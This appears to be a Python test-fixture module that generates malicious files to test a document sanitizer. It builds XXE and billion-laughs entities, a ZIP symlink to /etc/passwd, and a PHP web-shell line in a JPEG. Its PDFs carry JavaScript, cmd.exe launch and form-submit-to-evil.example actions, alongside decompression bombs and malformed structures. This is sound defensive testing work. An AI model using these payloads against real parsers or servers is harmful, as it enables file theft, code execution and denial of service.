"""Makes the files that attack. What becomes of each stands in hostile.py."""

import io
import struct
import zipfile
import zlib

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from files import limits
from tests.files import builders as b


def zip_of(name: str, content: bytes) -> bytes:
    return b.package({name: content})


def gif_with_script() -> bytes:
    return b"GIF89a/*" + b.image("GIF")[8:] + b"*/=1;alert(1)//"


def pdf_and_zip() -> bytes:
    return b.pdf() + zip_of("evil.exe", b"MZ canary-zip")


def zip_before_pdf() -> bytes:
    return zip_of("evil.exe", b"MZ canary-zip") + b.pdf()


def docx_bomb() -> bytes:
    return b.docx(
        {"word/bomb.xml": b"<a>" + bytes(40 * limits.MEBIBYTE).replace(b"\0", b" ") + b"</a>"}
    )


def docx_of_many() -> bytes:
    return b.docx({f"customXml/item{number}.xml": "<a/>" for number in range(limits.MAX_PARTS)})


def docx_lying_size() -> bytes:
    """A zip whose list says that a part is small, while it is not."""
    data = bytearray(b.docx({"word/bomb.xml": b"<a>" + b" " * 900_000 + b"</a>"}))
    central = data.rindex(b"word/bomb.xml") - 46
    data[central + 24 : central + 28] = struct.pack("<L", 10)
    return bytes(data)


def docx_symlink() -> bytes:
    out = io.BytesIO(b.docx())
    with zipfile.ZipFile(out, "a") as package:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        package.writestr(link, "/etc/passwd")
    return out.getvalue()


def docx_encrypted_flag() -> bytes:
    data = bytearray(b.docx())
    at = 0
    while (at := data.find(b"PK\x01\x02", at)) >= 0:
        data[at + 8] |= 1
        at += 4
    return bytes(data)


def docx_xxe() -> bytes:
    evil = b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    return b.docx({"word/document.xml": b.body().encode().replace(b"?>", b"?>" + evil, 1)})


def docx_laughs() -> bytes:
    entities = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE a [<!ENTITY a0 "ha">{entities}]>'
    return b.docx({"word/document.xml": b.body().replace("?>", "?>" + bomb, 1)})


def docx_rel(kind: str, target: str, mode: str = "External") -> bytes:
    return b.docx({"word/_rels/document.xml.rels": b.rels((kind, target, mode))})


def docx_photo() -> bytes:
    return b.docx({"word/media/image1.jpeg": b.jpeg_with_gps()})


def jpeg_with_php() -> bytes:
    return b.image("JPEG") + b"<?php system($_GET['canary']); ?><script>alert('canary')</script>"


def jpeg_truncated() -> bytes:
    whole = b.image("JPEG")
    return whole[: len(whole) // 2]


def png_text_bomb() -> bytes:
    packed = zlib.compress(bytes(80 * limits.MEBIBYTE), 9)
    return b.png_with(b.png_chunk(b"zTXt", b"Comment\0\0" + packed))


def png_profile_bomb() -> bytes:
    packed = zlib.compress(bytes(80 * limits.MEBIBYTE), 9)
    return b.png_with(b.png_chunk(b"iCCP", b"profile\0\0" + packed))


def png_pixel_bomb() -> bytes:
    """55 million pixels of one colour in some kilobytes: within the limit, and it must stay harmless."""
    header = struct.pack("!LLBBBBB", 10_000, 5_500, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes((1 + 3 * 10_000) * 5_500), 9)
    return (
        b"\x89PNG\r\n\x1a\n"
        + b.png_chunk(b"IHDR", header)
        + b.png_chunk(b"IDAT", rows)
        + b.png_chunk(b"IEND", b"")
    )


def pdf_script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = b.action("JavaScript", JS=String("app.alert('canary')"))
    tree = Dictionary(Names=[String("x"), b.action("JavaScript", JS=String("canary"))])
    document.Root.Names = Dictionary(JavaScript=document.make_indirect(tree))
    document.pages[0].AA = Dictionary(O=b.action("JavaScript", JS=String("canary")))


def pdf_hidden_script(document: pikepdf.Pdf) -> None:
    """A script behind a link, typed as something else, in a stream, and as the second of two actions."""
    code = document.make_stream(b"app.launchURL('canary')")
    second = b.action("JavaScript", JS=code)
    second.Type = Name.StructElem
    first = b.action("URI", URI=String("https://www.example.org/"), Next=Array([second]))
    document.pages[0].Annots = Array([b.annotation("Link", A=first)])


def pdf_launch(document: pikepdf.Pdf) -> None:
    run = Dictionary(F=String("cmd.exe"), P=String("/c canary"))
    link = b.annotation("Link", A=b.action("Launch", Win=run, F=String("canary.exe")))
    document.pages[0].Annots = document.make_indirect(Array([document.make_indirect(link)]))


def pdf_file(document: pikepdf.Pdf) -> None:
    document.attachments["canary.exe"] = b"MZ canary-embedded"
    stream = document.make_stream(b"MZ canary-embedded", Type=Name.EmbeddedFile)
    spec = Dictionary(
        Type=Name.Filespec, F=String("canary"), EF=Dictionary(F=stream, Type=Name.Font)
    )
    document.pages[0].Annots = Array([b.annotation("FileAttachment", FS=spec)])
    document.Root.AF = Array([spec])


def pdf_xfa(document: pikepdf.Pdf) -> None:
    xfa = document.make_stream(b"<xdp:xdp><script>canary</script></xdp:xdp>", Type=Name.Font)
    document.Root.AcroForm = Dictionary(Fields=Array([]), XFA=xfa)


def pdf_form(document: pikepdf.Pdf) -> None:
    field = b.annotation("Widget", FT=Name.Btn, T=String("knop"))
    field.A = b.action("SubmitForm", F=String("https://evil.example/canary"))
    field.AA = Dictionary(K=b.action("JavaScript", JS=String("canary")))
    fields = Array([document.make_indirect(field)])
    document.Root.AcroForm = Dictionary(Fields=fields, CO=fields)
    document.pages[0].Annots = fields


def pdf_film(document: pikepdf.Pdf) -> None:
    film = b.annotation("RichMedia", RichMediaContent=Dictionary(Note=String("canary")))
    document.pages[0].Annots = Array([film, b.annotation("Screen", A=b.action("Rendition"))])


def pdf_outside(document: pikepdf.Pdf) -> None:
    document.pages[0].Contents = document.make_stream(
        b"q Q", F=String("//evil/canary"), FFilter=Name.X
    )
    document.pages[0].Annots = Array(
        [
            b.annotation("Link", A=b.action("GoToR", F=String("//evil/canary"))),
            b.annotation("Link", A=b.action("URI", URI=String("file:///canary"))),
            b.annotation("Link", A=b.action("URI", URI=String("javascript:canary"))),
        ]
    )


def pdf_photo(document: pikepdf.Pdf) -> None:
    photo = document.make_stream(b.jpeg_with_gps(), Type=Name.XObject, Subtype=Name.Image)
    photo.Width, photo.Height, photo.ColorSpace, photo.BitsPerComponent = 64, 48, Name.DeviceRGB, 8
    photo.Filter = Name.DCTDecode
    document.pages[0].Resources.XObject = Dictionary({"/Im0": photo})
    document.docinfo["/Author"] = "canary-author"
    document.Root.Metadata = document.make_stream(b"<x>canary-xmp</x>", Type=Name.Metadata)


def pdf_stream_bomb(document: pikepdf.Pdf) -> None:
    packed = zlib.compress(bytes(300 * limits.MEBIBYTE), 9)
    bomb = document.make_stream(packed)
    bomb.Filter = Name.FlateDecode
    document.pages[0].Contents = bomb


def pdf_nested_bomb(document: pikepdf.Pdf) -> None:
    bomb = document.make_stream(zlib.compress(zlib.compress(bytes(300 * limits.MEBIBYTE), 9), 9))
    bomb.Filter = Array([Name.FlateDecode, Name.FlateDecode])
    document.pages[0].Contents = bomb


def pdf_pixels(document: pikepdf.Pdf) -> None:
    flood = document.make_stream(b"\0", Type=Name.XObject, Subtype=Name.Image)
    flood.Width, flood.Height = 60_000, 60_000
    document.pages[0].Resources.XObject = Dictionary({"/Im0": flood})


def pdf_pages(document: pikepdf.Pdf) -> None:
    for _page in range(limits.MAX_PAGES):
        document.add_blank_page()


def pdf_lying_count() -> bytes:
    return b.pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable).replace(
        b"/Count 1 ", b"/Count 9"
    )


def pdf_page_loop() -> bytes:
    """A tree of pages that contains itself."""
    return _by_hand(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1000000/Kids[2 0 R 2 0 R]>>"
    )


def pdf_table_loop() -> bytes:
    """A cross-reference table whose earlier table is itself."""
    body = _by_hand(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>")
    start = body.rindex(b"xref\n0")
    return body.replace(b"/Root", b"/Prev %d/Root" % start)


def pdf_deep() -> bytes:
    deep = b"[" * 100_000 + b"]" * 100_000
    return _by_hand(b"<</Type/Catalog/Pages 2 0 R/X %s>>" % deep, b"<</Type/Pages/Count 0/Kids[]>>")


def _by_hand(*objects: bytes) -> bytes:
    """Return a PDF of these objects, without a library that would mend it."""
    out, places = b"%PDF-1.7\n", []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj %s endobj\n" % (number, content)
    start = len(out)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%s" % (size, table)
        + b"trailer <</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, start)
    )


def docx_with_text(inside: str) -> bytes:
    """Return a Word document with more in its text."""
    return b.docx({"word/document.xml": b.body(inside)})


def docx_with_part(name: str, content: bytes | str = b"x") -> bytes:
    """Return a Word document with one more part."""
    return b.docx({name: content})


def docx_with_macros_by_type() -> bytes:
    """Return a Word document that says to be of the kind with macros."""
    return b.docx(main_type="application/vnd.ms-word.document.macroEnabled.main+xml")


def pdf_locked(user: str) -> bytes:
    """Return a PDF with a password, or with restrictions only."""
    return b.pdf(encryption=pikepdf.Encryption(user=user, owner="b"))
